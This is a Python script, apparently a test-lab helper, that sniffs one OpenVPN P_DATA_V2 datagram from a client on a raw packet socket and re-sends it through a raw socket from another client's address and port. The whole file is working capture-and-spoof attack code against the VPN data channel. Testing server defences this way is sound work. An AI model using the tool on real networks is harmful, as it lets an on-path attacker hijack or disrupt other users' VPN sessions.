#!/usr/bin/env python3
"""Take one of a client's data-channel datagrams off the wire and send it again from another
address, as anyone on the client's path can. Standard library only; root.

    steal_datagram.py capture --dev DEV --src ADDR:PORT --dst-port N --out FILE [--timeout S]
    steal_datagram.py send --file FILE --host ADDR --port N --from-port SPORT

capture: on a packet socket bound to DEV, wait for the first IPv4 UDP datagram from ADDR:PORT to
port N whose payload is a P_DATA_V2 packet (opcode 9, any key id) and write its payload to FILE.
With DEV a dead end that the client's datagrams are routed into for the moment, the server
never gets the original, and the copy is not a replay of a packet it has seen.

send: send FILE's bytes to ADDR:N from UDP port SPORT of this namespace's address through a raw
socket (another client's own address and port, while its socket on that port is left alone).

Exit status 0 when a datagram was captured or sent, 1 otherwise. Packet layout: doc
"openvpn-protocol.md" (P_DATA_V2: opcode and key id, 3-byte peer-id, packet id, tag).
"""
import argparse
import select
import socket
import struct
import sys
import time

P_DATA_V2 = 9
ETH_P_IP = 0x0800


def data_v2_payload(ip_packet, src, sport, dport):
    """The UDP payload of ip_packet if it is a P_DATA_V2 datagram from src:sport to dport."""
    if len(ip_packet) < 20 or ip_packet[0] >> 4 != 4 or ip_packet[9] != 17:
        return None
    if struct.unpack(">H", ip_packet[6:8])[0] & 0x3FFF:
        return None  # a fragment
    if socket.inet_ntoa(ip_packet[12:16]) != src:
        return None
    ihl = (ip_packet[0] & 0x0F) * 4
    total = struct.unpack(">H", ip_packet[2:4])[0]
    udp = ip_packet[ihl:total]
    if len(udp) < 8 or struct.unpack(">HH", udp[:4]) != (sport, dport):
        return None
    p = udp[8:]
    if len(p) < 4 or p[0] >> 3 != P_DATA_V2:
        return None
    return p


def capture(a):
    host, port = a.src.rsplit(":", 1)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sniff.bind((a.dev, 0))
    print("steal_datagram: listening on %s" % a.dev, flush=True)
    deadline = time.monotonic() + a.timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([sniff], [], [], 0.2)
        if not ready:
            continue
        data, addr = sniff.recvfrom(65535)
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        p = data_v2_payload(data, host, int(port), a.dst_port)
        if p is not None:
            with open(a.out, "wb") as f:
                f.write(p)
            print("steal_datagram: captured a %d-byte P_DATA_V2 datagram (peer-id %d) from %s"
                  % (len(p), struct.unpack(">I", p[:4])[0] & 0xFFFFFF, a.src), flush=True)
            return 0
    print("steal_datagram: no P_DATA_V2 datagram from %s within %.0f s" % (a.src, a.timeout))
    return 1


def send(a):
    with open(a.file, "rb") as f:
        p = f.read()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    # the kernel writes the IP header; ours is the UDP header (checksum 0: none, RFC 768)
    raw.sendto(struct.pack(">HHHH", a.from_port, a.port, 8 + len(p), 0) + p, (a.host, 0))
    print("steal_datagram: sent the %d-byte datagram from port %d" % (len(p), a.from_port))
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("capture")
    c.add_argument("--dev", required=True)
    c.add_argument("--src", required=True, help="ADDR:PORT of the client")
    c.add_argument("--dst-port", type=int, required=True)
    c.add_argument("--out", required=True)
    c.add_argument("--timeout", type=float, default=10.0)
    s = sub.add_parser("send")
    s.add_argument("--file", required=True)
    s.add_argument("--host", required=True)
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--from-port", type=int, required=True)
    a = ap.parse_args()
    return capture(a) if a.cmd == "capture" else send(a)


if __name__ == "__main__":
    sys.exit(main())
